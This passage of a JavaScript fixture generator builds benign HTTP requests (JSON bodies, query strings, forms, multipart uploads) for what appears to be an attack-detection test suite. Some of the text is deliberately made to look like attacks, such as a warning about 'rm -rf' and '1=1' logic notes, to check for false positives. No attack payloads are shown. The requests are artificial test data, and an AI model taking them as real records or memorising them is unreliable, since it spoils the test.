J('/api/v1/recipes', {
  title: 'Pancakes',
  steps: ['Mix flour & milk', 'Add 2 eggs', 'Cook 2-3 min per side'],
  serves: 4,
});
J('/api/v1/invoices', {
  lines: [{ desc: 'Consulting (June)', qty: 12.5, unit: 'h', rate: 95 }],
  notes: 'Payable within 30 days. IBAN DE89 3704 0044 0532 0130 00',
});
J('/api/v1/config', {
  retry: { attempts: 3, backoff: '250ms' },
  timeouts: { connect: '2s', request: '30s' },
  regex: '^[a-z0-9-]{3,32}$',
});
J('/api/v1/notes', { text: 'TODO: check if x > 5 && y < 10; if so, return early (see issue #42).' });
J('/api/v1/notes', {
  text: 'Paths on Windows look like C:\\Users\\Public\\Documents and on Linux like /home/user/docs.',
});
J('/api/v1/notes', { text: 'Use the email address in the "From:" field, e.g. "Jane <jane@example.com>".' });
J('/api/v1/emails', {
  subject: 'Your order #12345 has shipped',
  html: '<p>Hi Jane,</p><p>Your order is on its way. <a href="https://shop.example.com/orders/12345">Track it</a>.</p>',
});
B(
  'benign-json',
  'json',
  'POST',
  '/api/v1/orders',
  [...base(), ['Content-Type', 'application/json; charset=utf-8']],
  '{"sku":"AB-123","qty":1}',
);
B(
  'benign-json',
  'json',
  'PUT',
  '/api/v1/items/9',
  [...base(), ['Content-Type', 'application/json']],
  '[1, 2, 3, 4]',
);
B(
  'benign-json',
  'json',
  'POST',
  '/api/v1/items',
  [...base(), ['Content-Type', 'application/json']],
  '{"nested":{"a":{"b":{"c":{"d":[true,false,null,1.5e3]}}}}}',
);

// Benign text that looks like the attacks: prose about SQL, code, shells, HTML; logs and stack traces.
J('/api/v1/notes', { text: "O'Neil's pub & grill: 5 < 10 > 3, and I <3 pizza & beer." });
J('/api/v1/notes', { text: '1=1 is a tautology; in logic class we also proved that 2>1.' });
J('/api/v1/notes', { text: 'C# and F# are .NET languages; C++ is not.' });
J('/api/v1/notes', { text: 'Drop us a line or select a time slot from the calendar.' });
J('/api/v1/notes', { text: 'Never run rm -rf on your home folder (seriously, do not).' });
J('/api/v1/notes', { text: 'Add ${HOME}/bin to your PATH in ~/.bashrc, then restart the shell.' });
J('/api/v1/notes', { text: 'The onload event in React is handled with useEffect, not an attribute.' });
J('/api/v1/notes', { text: 'Alert the on-call team when CPU is above 90% for 5 minutes.' });
J('/api/v1/notes', { text: 'Script writing workshop: Thursday, 6pm, room 4.' });
J('/api/v1/errors', {
  message: 'java.lang.NullPointerException: Cannot invoke "String.length()" because "s" is null',
  stack: [
    'at com.example.billing.Invoice.total(Invoice.java:42)',
    'at com.example.billing.Api.get(Api.java:17)',
  ],
});
J('/api/v1/errors', {
  message: "TypeError: Cannot read properties of undefined (reading 'map')",
  stack: 'at List (webpack:///./src/List.tsx:12:20)\nat renderWithHooks (react-dom.development.js:16305:18)',
});
J('/api/v1/errors', {
  message: 'Traceback (most recent call last):\n  File "app.py", line 7, in <module>\nKeyError: \'id\'',
});
J('/api/v1/posts', {
  title: 'Install guide',
  body: '## Install\n\n```\nnpm install --save my-lib\n```\n\nThen import it:\n\n```js\nimport { thing } from "my-lib";\n```',
});
J('/api/v1/posts', {
  title: 'Images',
  body: '![diagram](https://cdn.example.com/img/diagram.png "Architecture")',
});
J('/api/v1/posts', {
  title: 'Quote',
  body: '> "Simplicity is prerequisite for reliability." — Edsger W. Dijkstra',
});
J('/api/v1/blobs', {
  name: 'thumb.jpg',
  data: Buffer.from(Array.from({ length: 1500 }, (_, i) => (i * 37 + 11) % 256)).toString('base64'),
});
J('/api/v1/search', { q: 'how to use select in sql', filters: { lang: 'en' } });
J('/api/v1/search', { q: 'javascript tutorial for beginners' });
J('/api/v1/search', { q: 'where to buy union jack flags' });
J('/api/v1/translate', {
  source: 'en',
  target: 'zh',
  text: 'Please update the delivery address.',
  result: '请更新收货地址。',
});
J('/api/v1/translate', {
  source: 'en',
  target: 'ar',
  text: 'Your order has shipped.',
  result: 'تم شحن طلبك.',
});
J('/api/v1/reactions', { post: 881, emoji: ['👍', '🎉', '😂', '🙏🏽', '👩‍💻'] });
J('/api/v1/devices', {
  mac: '00:1A:2B:3C:4D:5E',
  hostname: 'printer-3f',
  note: 'second floor, near the kitchen',
});
J('/api/v1/monitors', { name: 'api health', url: 'https://api.example.com/health', interval: '30s' });
J('/api/v1/monitors', { name: 'internal db', url: 'http://192.168.10.20:8080/health', interval: '60s' });
for (const target of [
  `/api/v1/search?q=${enc("O'Neil's pub & grill")}`,
  `/api/v1/search?q=${enc('1=1 tautology')}`,
  `/api/v1/search?q=${enc('rock & roll')}&type=album`,
  `/api/v1/search?q=${enc('c# vs java')}`,
  '/api/v1/search?q=select+insert+update+delete+tutorial',
  `/api/v1/search?q=${enc('email me at <jane@example.com>')}`,
  `/api/v1/search?q=${enc('50% off -- today only!')}`,
  `/api/v1/redirect?to=${enc('/dashboard?tab=billing#invoices')}`,
  `/api/v1/share?url=${enc('https://news.example.com/2024/06/story.html?utm_source=app')}`,
  '/api/v1/items?where=%7B%22price%22%3A%7B%22%24lt%22%3A10%7D%7D',
])
  B('benign-rest', 'query', 'GET', target, base());

// Forms.
form('benign-form', '/api/v1/login', 'username=alice&password=correct-horse-battery-staple&remember=on');
form('benign-form', '/api/v1/subscribe', 'email=bob%40example.com&plan=pro&coupon=SUMMER24');
form('benign-form', '/api/v1/contact', 'name=Jane+Doe&message=Hello%2C+I+would+like+a+quote+for+100+units.');
form(
  'benign-form',
  '/api/v1/contact',
  `name=${enc('Łukasz Żółć')}&message=${enc('Dzień dobry! Proszę o kontakt.')}`,
);
form('benign-form', '/api/v1/contact', `name=${enc('李雷')}&message=${enc('你好，我想了解价格。')}`);
form('benign-form', '/api/v1/search', 'q=select+the+best+option+from+the+list&page=1');
form(
  'benign-form',
  '/api/v1/oauth/token',
  'grant_type=authorization_code&code=SplxlOBeZQQYbYS6WxSbIA&redirect_uri=https%3A%2F%2Fapp.example.com%2Fcb&client_id=s6BhdRkqt3',
);
form(
  'benign-form',
  '/api/v1/oauth/token',
  'grant_type=refresh_token&refresh_token=tGzv3JOkF0XG5Qx2TlKWIA&scope=read+write',
);
form('benign-form', '/api/v1/profile', 'first_name=Mary&last_name=O%27Connor&city=Dublin&country=IE');
form(
  'benign-form',
  '/api/v1/comments',
  `text=${enc('Thanks for the update! Looking forward to 3.0 :)')}&post_id=881`,
);
form(
  'benign-form',
  '/api/v1/comments',
  `text=${enc('This works in Chrome but not Firefox — any ideas? I get "undefined" in the console.')}`,
);
form(
  'benign-form',
  '/api/v1/checkout',
  'items%5B0%5D%5Bsku%5D=AB-123&items%5B0%5D%5Bqty%5D=2&items%5B1%5D%5Bsku%5D=CD-456&items%5B1%5D%5Bqty%5D=1',
);
form(
  'benign-form',
  '/api/v1/settings',
  'timezone=America%2FNew_York&date_format=YYYY-MM-DD&week_start=monday',
);
form('benign-form', '/api/v1/survey', 'q1=yes&q2=no&q3=maybe&comment=It+was+ok%2C+not+great%2C+not+bad.');
form('benign-form', '/api/v1/address', `street=${enc('Unter den Linden 77')}&zip=10117&city=Berlin`);

// Multipart.
const MP = (target, parts) =>
  B(
    'benign-multipart',
    'multipart',
    'POST',
    target,
    [...base(), ['Content-Type', MULTIPART]],
    multipart(parts),
  );
MP('/api/v1/uploads', [
  { name: 'file', filename: 'photo.jpg', type: 'image/jpeg', value: 'JFIF binary-ish data 0123456789' },
]);
MP('/api/v1/uploads', [
  { name: 'title', value: 'Quarterly report' },
  { name: 'file', filename: 'q2-report.pdf', type: 'application/pdf', value: '%PDF-1.7 sample content' },
]);
MP('/api/v1/uploads', [
  {
    name: 'file',
    filename: 'data.csv',
    type: 'text/csv',
    value: 'id,name,price\n1,Widget,9.99\n2,Gadget,19.50\n',
  },
]);
MP('/api/v1/uploads', [
  { name: 'description', value: '会议记录 — 第二季度' },
  { name: 'file', filename: 'notes.txt', type: 'text/plain', value: 'Action items: 1) hire 2) ship' },
]);
MP('/api/v1/profile', [
  { name: 'name', value: 'Jane Doe' },
  { name: 'bio', value: 'Engineer, runner, coffee person.' },
  { name: 'avatar', filename: 'avatar.png', type: 'image/png', value: 'PNG image bytes here' },
]);
MP('/api/v1/import', [
  { name: 'format', value: 'json' },
  { name: 'file', filename: 'export.json', type: 'application/json', value: '{"items":[{"id":1},{"id":2}]}' },
]);
MP('/api/v1/uploads', [
  { name: 'file', filename: 'archive.zip', type: 'application/zip', value: 'PK zip bytes' },
]);
MP('/api/v1/tickets', [
  { name: 'subject', value: 'Cannot log in' },
  { name: 'body', value: "Hi, since yesterday I can't log in. I get an error page. Thanks!" },
]);

writeFileSync(out, `${JSON.stringify(requests, null, 2)}\n`);
// The committed fixture is in the repository's format (biome), so a rebuild diffs only what changed.
execFileSync('npx', ['biome', 'format', '--write', out], { stdio: 'ignore' });
const attacksN = requests.filter((r) => r.attack).length;
process.stdout.write(
  `${requests.length} requests (${attacksN} attacks, ${requests.length - attacksN} benign) → ${out}\n`,
);
